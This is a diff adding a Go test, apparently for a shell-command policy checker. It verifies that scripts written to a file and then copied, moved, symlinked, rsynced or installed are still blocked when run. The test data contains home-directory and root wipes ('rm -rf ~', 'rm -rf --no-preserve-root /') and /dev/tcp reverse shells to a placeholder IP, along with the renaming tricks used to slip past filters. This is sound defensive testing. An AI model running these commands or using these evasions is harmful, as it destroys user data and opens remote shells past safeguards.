@@ -117,3 +117,24 @@ func TestLead61GitShellAlias(t *testing.T) {
 		{"git config alias.st status; git st", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestLead61WrittenCopies: a script written on the line, then copied,
+// moved, linked or installed, or run under another spelling of its path,
+// is the script it was (rt61 M1–M3).
+func TestLead61WrittenCopies(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"echo 'rm -rf ~' > /tmp/a\ncp /tmp/a /tmp/c.sh\nbash /tmp/c.sh", dsl.Block, dsl.Block},
+		{"echo 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' > /tmp/a\nmv /tmp/a /tmp/b\nbash /tmp/b", dsl.Block, dsl.Block},
+		{"echo 'sh -i >& /dev/tcp/203.0.113.10/9001 0>&1' > /tmp/a\nln -s /tmp/a /tmp/b\nsh /tmp/b", dsl.Block, dsl.Block},
+		{"echo 'rm -rf --no-preserve-root /' > /tmp/a\nrsync /tmp/a /tmp/b\nbash /tmp/b", dsl.Block, dsl.Block},
+		{"echo 'rm -rf ~' > /tmp/a\ninstall -m 755 /tmp/a /tmp/c.sh\n/tmp/c.sh", dsl.Block, dsl.Block},
+		{"echo 'rm -rf ~' > /tmp/a\ncp /tmp/a /tmp/d/\nbash /tmp/d/a", dsl.Block, dsl.Block},
+		{"echo 'rm -rf ~' > ./a.sh\nbash \"$PWD/a.sh\"", dsl.Block, dsl.Block},
+		{"echo 'rm -rf ~' > \"$HOME/a.sh\"\nbash ~/a.sh", dsl.Block, dsl.Block},
+		{"echo 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' > /tmp//a.sh\nbash /tmp/a.sh", dsl.Block, dsl.Block},
+		{"install -m 755 /dev/stdin /tmp/c.sh <<'X'\nrm -rf \"$HOME\"\nX\n/tmp/c.sh", dsl.Block, dsl.Block},
+		{"cp -S .orig /dev/stdin /tmp/r.sh <<'X'\nrm -rf ~/\nX\nbash /tmp/r.sh", dsl.Block, dsl.Block},
+		{"echo 'echo hi' > /tmp/a\ncp /tmp/a /tmp/c.sh\nbash /tmp/c.sh", dsl.Allow, dsl.Allow},
+		{"cp scripts/build.sh /tmp/b.sh && bash /tmp/b.sh", dsl.Allow, dsl.Allow},
+	})
+}
